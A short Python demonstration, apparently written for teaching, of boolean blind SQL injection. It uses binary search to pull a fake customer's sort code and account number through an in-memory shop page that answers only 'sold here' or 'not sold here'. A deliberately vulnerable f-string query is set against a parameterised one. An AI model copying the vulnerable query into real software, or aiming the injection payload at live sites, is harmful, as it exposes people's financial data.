"""Read a bank account through a page that only answers "sold here" or "not sold here"."""

import sqlite3
from collections.abc import Callable

SCHEMA = """
CREATE TABLE offers (code TEXT);
CREATE TABLE customers (name TEXT, sort_code TEXT, account TEXT);
INSERT INTO offers VALUES ('TV1'), ('FON');
INSERT INTO customers VALUES ('A. Reader', '203040', '55512345');
"""

type Page = Callable[[str], str]


class Site:
    """A shop with a new page and an old one, on one database; it counts the requests that it answers."""

    def __init__(self) -> None:
        self.database = sqlite3.connect(":memory:")
        self.database.executescript(SCHEMA)
        self.requests = 0

    def new_page(self, code: str) -> str:
        self.requests += 1
        rows = self.database.execute("SELECT 1 FROM offers WHERE code = ?", (code,))
        return "sold here" if rows.fetchone() else "not sold here"

    def old_page(self, code: str) -> str:
        self.requests += 1
        rows = self.database.execute(f"SELECT 1 FROM offers WHERE code = '{code}'")
        return "sold here" if rows.fetchone() else "not sold here"


def digit(page: Page, column: str, place: int) -> str:
    """Find one digit by halving: is it 5 or more? 7 or more?"""
    low, high = 0, 9
    while low < high:
        middle = (low + high + 1) // 2
        question = f"' OR (SELECT substr({column}, {place}, 1) FROM customers) >= '{middle}' --"
        if page(question) == "sold here":
            low = middle
        else:
            high = middle - 1
    return str(low)


def read(page: Page, column: str, length: int) -> str:
    return "".join(digit(page, column, place) for place in range(1, length + 1))


if __name__ == "__main__":
    site = Site()
    for page in (site.old_page, site.new_page):
        site.requests = 0
        sort_code, account = read(page, "sort_code", 6), read(page, "account", 8)
        print(f"{page.__name__}: sort code {sort_code}, account {account}, after {site.requests} requests")
